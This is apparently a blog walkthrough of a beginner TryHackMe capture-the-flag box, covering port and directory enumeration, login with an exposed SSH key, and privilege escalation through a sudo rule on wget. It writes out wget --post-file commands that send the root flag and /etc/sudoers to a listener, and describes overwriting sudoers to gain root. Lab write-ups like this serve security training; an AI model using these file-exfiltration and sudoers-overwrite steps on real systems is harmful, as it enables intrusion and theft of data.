Adithya Thatipalli
5 min readOct 3, 2020

Hello All,

This post is a walkthrough to a beginner level box in TryHackMe — wget CTF, where you get both the initial user flag and the root flag. Link to the room:

Let’s get started. We will start with Enumerating the open ports, services using Nmap.

nmap -sV -sC -Pn -vv

  • -sV is the flag for version
  • Pn is a flag to consider all hosts are online
  • -sC is to use the default Nmap scripts
  • -vv is to show the verbose output of Nmap scan results

We can see port 22,80 are open. Let’s check the HTTP site.It’s just a normal Apache2 page, let’s look at the source code and we got a commented line.

It did not make any sense to me. So I want to check the directories of this site using Gobuster with taking wordlist from dirbuster. Keep a note of the name we saw in the commented line, it might be useful later.

gobuster dir -u -w /usr/share/dirbuster/wordlists/directory-list-2.3-medium.txt

I got a directory /sitemap. Let’s check what does it contain. I have checked the source code and did not find any sensitive information apart from the website hosted vendor Let’s run gobuster again to see if we can find something useful.

Ohhh, looks like we got something related to SSH. When I accessed the site, I can see an ssh key available. Let’s grab it and try to get an ssh session.

I have downloaded the file and see what does it contains. It shows that it is an RSA private key and I thought to check the permissions. It shows that everyone has read access to it and I have changed it to the only user Read/Write access.

To get the SSH session we need a username to connect with this key. I remember when I am going through the initial HTML source code page, there was a name commented there (Jessie). I am going to use that name as the username.

Hoo Hoo, We got the SSH access. Let’s explore it to get our flags.

Hurrah! I got the first flag. Instead of searching directory by directory, I am using one shortcut to search file which contains a flag using the locate command.

locate *flag.txt

Now find our next flag (root).

We can see that Sudo can only run with wget command. To obtain our second flag we use wget with theparameter --post-filewith the file path and towards the IP where we want to send the file. We put Netcat (local) listening on port 80.

sudo /usr/bin/wget --post-file=<path of file> <Listening IP>
I have sent the content of the root flag using wget

Hurrah!!! I got the second flag too. Here I used the privilege escalation method to extract the flag instead of gaining the root access.

Gaining Root Shell:

We were able to fulfill our task by getting a root flag on this machine. But our task will be complete when we get a root shell. Let’s try to exploit wget to achieve this. I googled about this for a while and got something from hacking articles.

We have so many uses with wget but for now, I am going to use only two flags for this task.

— post-file: This flag is used to send the content of the file to a remote location and the destination andreceive this by setting up a listener.

— output-document: This flag is used to overwrite the data which we receive from the webserver using a GET request.

I am going to send the content to the sudoers file to my machine by below syntax and I will set up an HTTP listener too.

sudo wget --post-file=/etc/sudoers <listener IP>

If you see the above image, I have sent the content of the sudoers file to my machine usingwget( left side)and initiated a listener to receive the information. I got all the content in the sudoers including the permissions of Jessie’s account( Right side).

Now, I will modify Jessie’s account permissions by commenting/erasing existing content and add the below line.

#jessie ALL=(root) NOPASSWD: /usr/bin/wget

Now, I will start a simple HTTP server using python and I will use wget from Jessie’s machine, send a GET request to request the sudoers file from the remote server, use the — output-document flag to replace the content which we want to modify( Here I am going to modify the suoders file in /etc directory).

Hurrah!!… We got the root shell. This is how we can do the privilege escalation using wget

I would like to thanks MrSeth6797 for creating this room and giving us an opportunity to learn some new methods andtechniques to improve our skills.Thanks for reading this….



AdithyaThatipalli

Security Engineer by Day, Cloud andBlockchain Learner during Night